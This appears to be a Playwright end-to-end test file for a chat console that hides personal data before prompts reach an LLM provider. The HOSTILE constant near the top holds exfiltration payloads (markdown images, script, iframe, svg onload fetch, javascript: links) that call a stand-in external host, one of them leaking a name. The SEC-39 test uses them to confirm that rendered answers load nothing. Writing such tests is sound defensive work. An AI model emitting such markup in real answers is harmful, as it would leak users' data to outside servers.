import { eventually } from '@app/testing';
import { Visitor, type ScriptedAnswer } from '../../support/browser';
import { speech, upstream, browser, visitor, page, login, origin, textOf, send } from './stage';

const FIRST_SCREEN_BYTES = 250 * 1024;

const ELSEWHERE = 'https://elsewhere.example';

/** Output of a model under an attacker's control that makes a browser send data to another server. */
const HOSTILE = [
  `![picture](${ELSEWHERE}/a?q=NAME)`,
  `<img src="${ELSEWHERE}/b"><script src="${ELSEWHERE}/c"></script><iframe src="${ELSEWHERE}/d"></iframe>`,
  `<style>@import url(${ELSEWHERE}/e)</style><svg onload="fetch('${ELSEWHERE}/f')">`,
  `[harmless](javascript:fetch('${ELSEWHERE}/g')) [shown](${ELSEWHERE}/h)`,
  `[ref]: ${ELSEWHERE}/i\n\n![x][ref]`,
].join('\n\n');

/** Returns a failure as the service answers with it. */
const failed = (code: string, headers: Record<string, string>): ScriptedAnswer => ({
  status: 502,
  headers: { 'X-Error-Code': code, ...headers },
  body: { success: false, code, message: 'The language model failed; try again later', response_code: 502 },
});

const BROKEN_OFF = {
  success: false,
  code: 'provider_broke_off',
  prompt_sent: true,
  message: 'The language model failed; try again later',
  response_code: 502,
};

const STOPPED_CHAT = '019aa5c1-7c1e-7b0e-9a44-0c6f4a6b1f0d';

const STOPPED_HISTORY = {
  success: true,
  message: 'Chat history',
  response_code: 200,
  data: {
    anonymized_values: {},
    prompts: [
      {
        responseType: 'text',
        originalPrompt: 'Tell me more',
        anonymizedPrompt: 'Tell me more',
        response: 'Half an answer, as it is stored',
        createdAt: '2026-01-15T09:30:00.000Z',
        replacements: [],
        stopped: true,
      },
    ],
  },
  next_cursor: null,
};

/** Length of the recording, long enough for a transcription. */
const SPOKEN_MS = 1_500;

/** Runs in the page. */
const linksOf = (links: unknown): { href: string; rel: string }[] =>
  (links as { href: string; rel: string }[]).map(({ href, rel }) => ({ href, rel }));

/** Conversations: what is hidden, sent, answered and stored. */
export function chat(): void {
  describe('the console, as npm start serves it', () => {
    it('logs the demo user in, and shows for a first chat what was hidden and restored [PRIV-45]', async () => {
      const bytes = await visitor.transferred(async () => {
        await visitor.open('/');
        const signOn = page.getByRole('link', { name: 'Log in with single sign-on' });
        expect(await signOn.getAttribute('href')).toBe('/idm/v1/oidc/login');
        await visitor.logIn(login);
      });
      expect(new URL(page.url()).pathname).toBe('/chat');
      expect(bytes).toBeLessThan(FIRST_SCREEN_BYTES);
      const preview = page.locator('.findings .chip-text', { hasText: 'Hans Müller' });
      await page.getByText('Set LLM_BASE_URL').waitFor();
      const tour = page.getByRole('region', { name: 'Tour' });
      for (const step of ['Next', 'Next', 'Done']) {
        expect(await visitor.faults()).toEqual([]);
        await tour.getByRole('button', { name: step }).click();
      }
      await tour.waitFor({ state: 'detached' });
      await page.locator('.composer textarea').fill('Write to Hans Müller about Berlin.');
      await preview.waitFor();
      await send('Write to Hans Müller, phone +49 30 901820.');
      expect(await textOf('.answer')).toContain('Write to Hans Müller, phone +49 30 901820.');
      expect(await visitor.focus()).toBe('Your message');
      await page.getByRole('group', { name: 'Demonstration' }).waitFor();
      expect(await textOf('article')).not.toContain('This is demo-echo');
      await page.locator('.sent').waitFor();
      expect(await textOf('.sent')).not.toMatch(/Müller|901820/);
      // What the provider saw does not narrow the answer.
      expect((await page.locator('.said').boundingBox())!.width).toBeGreaterThan(600);
      const mark = page.locator('.sent mark').first();
      await mark.focus();
      expect(await textOf('.mark-note')).toContain('Hans Müller');
      expect(await visitor.faults()).toEqual([]);
      await page.keyboard.press('Escape');
      expect(page.url()).toMatch(/\/chat\/[0-9a-f-]{36}$/);
    });

    it('opens a conversation by its address, renames it, finds it, and deletes it after a confirmation', async () => {
      await page.reload();
      await page.locator('.answer', { hasText: 'Hans Müller' }).waitFor();
      const menu = page.getByRole('button', { name: /^Actions for Write to/ });
      await menu.click();
      await page.getByRole('menuitem', { name: 'Rename' }).click();
      await page.getByRole('dialog').getByLabel('Name').fill('Letter to a customer');
      await page.getByRole('button', { name: 'Save' }).click();
      await page.getByRole('link', { name: 'Letter to a customer' }).waitFor();
      await page.getByRole('searchbox').fill('nowhere');
      await page.getByText('Nothing found.').waitFor();
      await page.getByRole('searchbox').fill('customer');
      await page.getByRole('button', { name: 'Actions for Letter to a customer' }).click();
      await page.getByRole('menuitem', { name: 'Delete' }).click();
      expect(await textOf('dialog p')).toContain('Letter to a customer');
      await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
      await page.getByText('Nothing found.').waitFor();
      await page.getByText('All messages were searched.').waitFor();
      expect(new URL(page.url()).pathname).toBe('/chat');
      await page.getByRole('searchbox').fill('');
    });

    it('finds a conversation by a word of an answer, pins it, and exports it', async () => {
      await page.getByRole('link', { name: 'New conversation' }).click();
      await send('Ask Petra Sommer about the lighthouse.');
      await send('And something else.');
      await page.getByRole('searchbox').fill('LIGHTHOUSE sommer');
      const found = page.locator('.found-texts a', { hasText: 'lighthouse' });
      await found.waitFor();
      expect(await found.locator('mark').allTextContents()).toEqual(['Sommer', 'lighthouse']);
      expect(await visitor.faults()).toEqual([]);
      await found.click();
      await page.locator('.turn.found', { hasText: 'lighthouse' }).waitFor();
      await page.getByRole('searchbox').fill('');
      const menu = page.getByRole('button', { name: /^Actions for Ask Petra/ });
      await menu.click();
      await page.getByRole('menuitem', { name: 'Pin' }).click();
      await page.getByRole('heading', { name: 'Pinned' }).waitFor();
      await menu.click();
      await page.getByRole('menuitem', { name: 'Download' }).click();
      expect(await visitor.faults()).toEqual([]);
      const dialog = page.getByRole('dialog');
      const download = page.waitForEvent('download');
      await dialog.getByRole('button', { name: 'Download' }).click();
      expect((await download).suggestedFilename()).toMatch(/^Ask Petra Sommer.*\.docx$/);
      await dialog.waitFor({ state: 'detached' });
      await page.evaluate(`window.print = () => {
        window.printed = document.querySelector('.print-only').textContent;
        dispatchEvent(new Event('afterprint'));
      }`);
      await menu.click();
      await page.getByRole('menuitem', { name: 'Download' }).click();
      await dialog.getByLabel('Format').selectOption('pdf');
      await dialog.getByRole('checkbox').check();
      await dialog.getByRole('button', { name: 'Print …' }).click();
      await dialog.waitFor({ state: 'detached' });
      const printed = (await page.evaluate('window.printed')) as string;
      expect(printed).toContain('lighthouse');
      expect(printed).not.toContain('Sommer');
      await menu.click();
      await page.getByRole('menuitem', { name: 'Unpin' }).click();
      await page.getByRole('heading', { name: 'Pinned' }).waitFor({ state: 'detached' });
      await page.getByRole('link', { name: 'New conversation' }).click();
    });

    it('shares a conversation by a link, with replacements, and ends it', async () => {
      await page.getByRole('link', { name: 'New conversation' }).click();
      await send('Ask Petra Sommer about the harbor.');
      const menu = page.getByRole('button', { name: /^Actions for Ask Petra Sommer about the harbor/ });
      const openDialog = async () => {
        await menu.click();
        await page.getByRole('menuitem', { name: 'Share' }).click();
      };
      await openDialog();
      const dialog = page.getByRole('dialog', { name: 'Share this conversation' });
      await dialog.getByText('Readers see replacements instead of your values.').waitFor();
      expect(await visitor.faults()).toEqual([]);
      await dialog.getByRole('button', { name: 'Create link' }).click();
      const link = await dialog.getByLabel('Link', { exact: true }).inputValue();
      expect(await visitor.faults()).toEqual([]);
      await dialog.getByRole('button', { name: 'Done' }).click();
      await page.goto(link);
      await page.getByText('shared this conversation').waitFor();
      const shown = await textOf('main');
      expect(shown).toContain('harbor');
      expect(shown).not.toContain('Sommer');
      expect(await page.locator('.shared-turns mark').count()).toBe(1);
      expect(await visitor.faults()).toEqual([]);
      await page.goto(`${origin}/chat`);
      await openDialog();
      await dialog.getByRole('button', { name: 'End sharing' }).click();
      await dialog.getByRole('button', { name: 'Create link' }).waitFor();
      await dialog.getByRole('button', { name: 'Close' }).click();
      await page.goto(link);
      await page.getByText('This content does not exist any more').waitFor();
      await page.goto(`${origin}/chat`);
    });

    it('leaves a false match unchanged and hides a missed word, for one chat', async () => {
      const prompt = 'Ask Hans Müller about the wombat.';
      const input = page.locator('.composer textarea');
      await input.fill(prompt);
      await page.getByRole('button', { name: 'Leave “Hans Müller” unchanged' }).click();
      await input.press('End');
      await input.press('ArrowLeft');
      for (const _ of 'wombat') await input.press('Shift+ArrowLeft');
      await page.getByRole('button', { name: 'Hide “wombat”' }).click();
      await page.locator('.chip-text', { hasText: 'wombat' }).waitFor();
      await page.locator('.composer button[type=submit]').click();
      await page.locator('.sent').waitFor();
      const sent = await textOf('.sent .pre');
      expect(sent).toContain('Hans Müller');
      expect(sent).not.toContain('wombat');
    });

    it('suggests a corrected value to the admins, who dismiss it', async () => {
      const dialog = page.getByRole('dialog');
      const menu = page.getByRole('button', { name: /^Actions for Ask Hans Müller about the wombat/ });
      await menu.click();
      await page.getByRole('menuitem', { name: 'Corrections' }).click();
      await dialog.getByText('left unchanged', { exact: true }).waitFor();
      await dialog.getByRole('button', { name: 'Suggest “wombat”' }).click();
      await dialog.getByRole('button', { name: '“wombat” is suggested' }).waitFor();
      expect(await visitor.faults()).toEqual([]);
      await dialog.getByRole('button', { name: 'Done' }).click();
      await visitor.follow('/privacy');
      await page.getByRole('button', { name: 'Suggestions' }).click();
      await dialog.getByText(/^hidden · suggested/).waitFor();
      expect(await visitor.faults()).toEqual([]);
      await dialog.getByRole('button', { name: 'Dismiss “wombat”' }).click();
      await dialog.getByText('No suggestions.').waitFor();
      expect(await visitor.focus()).not.toBe('BODY');
      await dialog.getByRole('button', { name: 'Done' }).click();
      await visitor.follow('/chat');
    });

    it('sends documents with a prompt, and shows what the provider saw of them', async () => {
      await page.getByRole('link', { name: 'New conversation' }).click();
      const content = Buffer.from('The contract with Petra Sommer ends in June.');
      await page.locator('.composer input[type=file]').setInputFiles([
        { name: 'contract.txt', mimeType: 'text/plain', buffer: content },
        { name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('It was signed in June.') },
      ]);
      await page.getByText('1 value in this document will be hidden').waitFor();
      await page.getByRole('button', { name: 'Show values' }).first().click();
      await page.locator('.found-values .chip', { hasText: 'Petra Sommer' }).waitFor();
      expect(await textOf('.document-findings mark')).toBe('Petra Sommer');
      expect(await textOf('.document-findings .pre')).toBe(content.toString());
      expect(await visitor.faults()).toEqual([]);
      await page.getByRole('button', { name: 'Close' }).click();
      await send('When does the contract end?');
      await page.locator('.prompt', { hasText: 'contract.txt' }).waitFor();
      expect(await textOf('.prompt')).toContain('notes.txt');
      expect(await textOf('.sent')).toContain('Also sent: 2 passages of documents');
      await page.getByText('Show the passages of documents that were sent').click();
      await page.locator('.sent details mark').waitFor();
      expect(await textOf('.sent details')).toMatch(
        /Document 1The contract with (?!Petra)[^]*Document 2It was signed/,
      );
      expect(await visitor.faults()).toEqual([]);
    });

    it('keeps a draft while the user visits other screens, reloads the page or logs in again', async () => {
      const input = page.locator('.composer textarea');
      await page.getByRole('link', { name: 'New conversation' }).click();
      await input.fill('A draft about Petra Sommer');
      await page.locator('.composer input[type=file]').setInputFiles({
        name: 'notes.txt',
        mimeType: 'text/plain',
        buffer: Buffer.from('Petra Sommer lives in Kiel.'),
      });
      await page.getByText('attached').waitFor();
      await visitor.follow('/anonymize');
      await visitor.follow('/chat');
      expect(await input.inputValue()).toBe('A draft about Petra Sommer');
      // A preview that is still pending would notice the end of the session before the click.
      await page.reload({ waitUntil: 'networkidle' });
      await page.getByText('notes.txt').waitFor();
      expect(await input.inputValue()).toBe('A draft about Petra Sommer');
      await page.locator('.findings .chip').first().waitFor();
      await visitor.settled();
      await visitor.expireSession();
      await page.locator('.composer button[type=submit]').click();
      await page.getByRole('dialog').getByText('Your session has expired').waitFor();
      expect(await visitor.faults()).toEqual([]);
      await visitor.logIn(login);
      await page.locator('.answer', { hasText: 'A draft about Petra Sommer' }).waitFor();
      await eventually(() => expect(page.url()).toMatch(/\/chat\/[0-9a-f-]{36}$/));
      expect(await visitor.focus()).toBe('Your message');
    });

    it('shows when protection is off, at every width, and asks before turning it off for one conversation', async () => {
      await page.getByRole('link', { name: 'New conversation' }).click();
      await page.locator('.composer textarea').fill('Write to Hans Müller.');
      await page.getByRole('button', { name: 'Protected', exact: true }).click();
      await page.getByRole('button', { name: 'Turn protection off' }).click();
      await page.getByRole('dialog').getByText('for this conversation?').waitFor();
      await page.getByRole('dialog').getByRole('button', { name: 'Turn protection off' }).click();
      await page.locator('.clear-bar', { hasText: 'Not hidden: Hans Müller' }).waitFor();
      expect(await visitor.focus()).not.toBe('BODY');
      expect(await page.locator('.behind.clear').textContent()).toBe('Hans Müller');
      for (const width of [360, 768]) {
        await page.setViewportSize({ width, height: 740 });
        expect(await page.getByRole('button', { name: 'Not protected' }).innerText()).toBe('Not protected');
        expect(await visitor.faults()).toEqual([]);
      }
      await page.setViewportSize({ width: 1280, height: 720 });
      await page.reload();
      await page.locator('.clear-bar').waitFor();
      await visitor.scriptAnswers({ status: 503, body: {} });
      await page.locator('.composer button[type=submit]').click();
      await page.getByText('The provider may have received your message as you wrote it.').waitFor();
      expect((await visitor.scriptedPrompts())[0]?.body).toMatchObject({ choices: [], anonymized: false });
      await page.getByRole('button', { name: 'Turn protection on' }).click();
      await page.getByRole('button', { name: 'Protected', exact: true }).waitFor();
    });

    it('highlights values that the chosen kinds do not hide', async () => {
      await page.locator('.composer textarea').fill('Write to Hans Müller, hans.mueller@firma.de.');
      await page.getByRole('button', { name: 'Protected', exact: true }).click();
      await page.getByRole('checkbox', { name: 'E-mail address' }).click();
      await page.keyboard.press('Escape');
      await page.getByRole('button', { name: 'Partly protected' }).waitFor();
      await page.locator('.clear-bar', { hasText: 'Not hidden: hans.mueller@firma.de' }).waitFor();
      expect(await page.locator('.behind.clear').textContent()).toBe('hans.mueller@firma.de');
      await page.locator('.findings .chip-text', { hasText: 'Hans Müller' }).waitFor();
    });

    it('leaves no data for the next user of the browser, who starts protected', async () => {
      const stored = () => page.evaluate('JSON.stringify({ ...localStorage, ...sessionStorage })');
      expect(await stored()).toContain('Hans Müller');
      await visitor.logOut(login.userName);
      expect(await stored()).not.toMatch(/Hans Müller|Emails|:work:|:wishes:/);
      await visitor.logIn(login);
      await page.getByRole('button', { name: 'Protected', exact: true }).waitFor();
      expect(await page.locator('.composer textarea').inputValue()).toBe('');
      expect(await visitor.focus()).toBe('Your message');
    });

    it('offers no way to turn protection off if the policy forbids it', async () => {
      await page.route('**/ai/v1/kinds', async (route) => {
        const answer = await route.fetch();
        await route.fulfill({ json: { ...((await answer.json()) as object), allow_unprotected: false } });
      });
      await page.reload();
      await page.getByRole('button', { name: 'Protected', exact: true }).click();
      await page.getByRole('checkbox', { name: 'E-mail address' }).waitFor();
      expect(await page.getByRole('button', { name: 'Turn protection off' }).count()).toBe(0);
      await page.keyboard.press('Escape');
      await page.unroute('**/ai/v1/kinds');
      await page.reload();
    });

    it('explains provider failures in German only, and sends again with one click', async () => {
      const german = await Visitor.at(browser, origin, { locale: 'de-DE' });
      const sentence = 'The language model failed; try again later';
      await german.open('/chat');
      await german.logIn(login);
      await german.scriptAnswers(
        failed('provider_timeout', { 'X-Prompt-Sent': 'true' }),
        failed('provider_unreachable', { 'X-Prompt-Sent': 'false' }),
        failed('provider_rate_limited', { 'X-Prompt-Sent': 'true', 'Retry-After': '600' }),
        {
          events: [
            ['start', { session_id: 'none' }],
            ['delta', { text: 'Sehr' }],
            ['error', BROKEN_OFF],
          ],
        },
      );
      const said = [
        /nicht rechtzeitig geantwortet.*hat Ihre Nachricht erhalten.*verborgen/s,
        /nicht erreichbar.*nichts gesendet/s,
        /zu viele Anfragen.*Noch einmal in \d+ Sekunden/s,
        /Antwort abgebrochen.*hat Ihre Nachricht erhalten/s,
      ];
      const folded = german.page.locator('.failed-turn');
      for (const [index, words] of said.entries()) {
        await german.page.locator('.composer textarea').fill(`Nachricht ${index}`);
        await german.page.locator('.composer button[type=submit]').click();
        await german.page.getByRole('alert').filter({ hasText: words }).waitFor();
        // Only the newest failure is open; each earlier one is a line.
        expect(await german.page.getByRole('alert').count()).toBe(1);
        expect(await folded.count()).toBe(index);
        expect(await german.focus()).toBe('Ihre Nachricht');
      }
      expect(await german.page.locator('body').innerText()).not.toContain(sentence);
      expect(await german.faults()).toEqual([]);
      await german.page.getByText('Einzelheiten für Administratoren').first().click();
      await german.page.getByText(sentence).waitFor();
      // The first line opens to its reason, and its prompt can be sent again.
      await folded.first().locator('summary').first().click();
      expect(await folded.first().getByRole('alert').textContent()).toMatch(said[0]!);
      await folded.first().getByRole('button', { name: 'Noch einmal', exact: true }).click();
      await german.page.locator('.answer', { hasText: 'Nachricht 0' }).waitFor();
      expect(await german.focus()).toBe('Ihre Nachricht');
      // The three others stay.
      expect(await german.page.getByText(/Nachricht [123]/).count()).toBe(3);
      expect(german.wrong).toEqual([]);
      await german.leave();
    });

    it('returns a prompt to the input if the user stops before the answer begins, and keeps a partial answer otherwise', async () => {
      const input = page.locator('.composer textarea');
      const stop = page.getByRole('button', { name: 'Stop' });
      await page.getByRole('link', { name: 'New conversation' }).click();
      await visitor.scriptAnswers(
        { hangs: true },
        {
          headers: { 'X-Protection': 'some' },
          events: [
            ['start', { session_id: STOPPED_CHAT }],
            ['delta', { text: 'Half an answer' }],
            ['meta', { finish_reason: 'length' }],
          ],
          hangs: true,
        },
      );
      await input.fill('Tell me more');
      await input.press('Enter');
      await stop.click();
      await eventually(async () => expect(await input.inputValue()).toBe('Tell me more'));
      expect(await visitor.focus()).toBe('Your message');
      await page.route(`**/ai/v1/history/${STOPPED_CHAT}*`, (route) =>
        route.fulfill({ json: STOPPED_HISTORY }),
      );
      await page.getByLabel('Model').selectOption({ index: 0 });
      await input.press('Enter');
      await page.getByText('Sent partly protected').waitFor();
      await page.getByText('The answer was truncated').waitFor();
      await stop.click();
      expect(await visitor.focus()).toBe('Your message');
      await page.getByText('You stopped this answer.').waitFor();
      await page.locator('.answer', { hasText: 'Half an answer, as it is stored' }).waitFor();
      expect(new URL(page.url()).pathname).toBe(`/chat/${STOPPED_CHAT}`);
      expect((await visitor.scriptedPrompts())[1]?.headers['x-on-disconnect']).toBe('keep');
      await page.unroute(`**/ai/v1/history/${STOPPED_CHAT}*`);
    });

    it('continues an answer that was cut off, and shows both parts as one text', async () => {
      const turn = {
        ...STOPPED_HISTORY.data.prompts[0]!,
        stopped: undefined,
        replacedResponse: 'Dear [NA',
        model: 'm',
      };
      const cut = { ...turn, finishReason: 'length' };
      const next = { ...turn, createdAt: '2026-01-15T09:31:00.000Z', finishReason: 'stop' };
      const prompts: object[] = [cut];
      const history = `**/ai/v1/history/${STOPPED_CHAT}*`;
      const path = `**/ai/v1/chat/${STOPPED_CHAT}/continue`;
      const data = { ...STOPPED_HISTORY.data, prompts };
      await page.route(history, (route) => {
        const isNewest = new URL(route.request().url()).searchParams.get('limit') === '1';
        const shown = { ...data, prompts: isNewest ? prompts.slice(-1) : prompts };
        return route.fulfill({ json: { ...STOPPED_HISTORY, data: shown } });
      });
      let asked: unknown;
      await page.route(path, (route) => {
        asked = route.request().postDataJSON();
        prompts.push({ ...next, replacedResponse: 'Hans Müller, welcome.', continuesAt: 5 });
        const events = [
          ['start', { session_id: STOPPED_CHAT, continues_at: 5 }],
          ['delta', { text: 'Hans Müller, welcome.' }],
          ['meta', { finish_reason: 'stop', protection: 'all' }],
          ['result', { session_id: STOPPED_CHAT }],
        ];
        const body = events.map(
          ([event, of]) => `event: ${event as string}\ndata: ${JSON.stringify(of)}\n\n`,
        );
        return route.fulfill({ contentType: 'text/event-stream', body: body.join('') });
      });
      await page.goto(`${origin}/chat/${STOPPED_CHAT}`);
      await page.getByText('The answer was truncated').waitFor();
      await page.getByRole('button', { name: 'Continue the answer' }).click();
      await page.getByText('Continuation of the answer above').first().waitFor();
      await eventually(async () =>
        expect(await page.locator('.answer').allInnerTexts()).toEqual(['Dear', 'Hans Müller, welcome.']),
      );
      expect(asked).toEqual({ model: 'm' });
      expect(await page.getByText('The answer was truncated').count()).toBe(0);
      expect(await visitor.focus()).toBe('Your message');
      expect(await visitor.faults()).toEqual([]);
      await page.unroute(history);
      await page.unroute(path);
    });

    it('creates an image from a description without its names, and stores it in this service', async () => {
      await page.getByRole('link', { name: 'New conversation' }).click();
      await page.getByRole('button', { name: 'Create an image' }).click();
      await page.locator('.composer textarea').fill('Hans Müller on a red bicycle');
      await page.locator('.composer button[type=submit]').click();
      const image = page.getByRole('img', { name: 'Image: Hans Müller on a red bicycle' });
      await image.waitFor();
      await eventually(async () =>
        expect(
          await image.evaluate((shown: unknown) => (shown as { naturalWidth: number }).naturalWidth),
        ).toBe(1),
      );
      expect(new URL((await image.getAttribute('src'))!).origin).toBe(origin);
      expect(await textOf('.sent .pre')).toContain('red bicycle');
      expect(JSON.stringify(upstream.requests) + (await textOf('.sent .pre'))).not.toContain('Müller');
    });

    it('turns speech into text of a message', async () => {
      await page.getByRole('link', { name: 'New conversation' }).click();
      await page.getByRole('button', { name: 'Speak' }).click();
      await page.getByRole('button', { name: 'End recording' }).waitFor();
      await page.waitForTimeout(SPOKEN_MS);
      await page.getByRole('button', { name: 'End recording' }).click();
      await eventually(async () =>
        expect(await page.locator('.composer textarea').inputValue()).toBe(
          'He was not an ill-disposed young man.',
        ),
      );
      expect(speech.requests.at(-1)!.file.length).toBeGreaterThan(16_000 * 2);
    });

    it('loads nothing that an answer references, and shows the targets of its links [SEC-39]', async () => {
      await page.getByRole('link', { name: 'New conversation' }).click();
      await send(HOSTILE);
      const answer = page.locator('.answer');
      expect(await answer.locator('img, script, iframe, style, svg, [src], [style]').count()).toBe(0);
      const links = await answer.locator('a').evaluateAll(linksOf);
      expect(links).toEqual([{ href: `${ELSEWHERE}/h`, rel: expect.stringContaining('noopener') as string }]);
      expect(await answer.textContent()).toContain(`${ELSEWHERE}/h`);
    });
  });
}
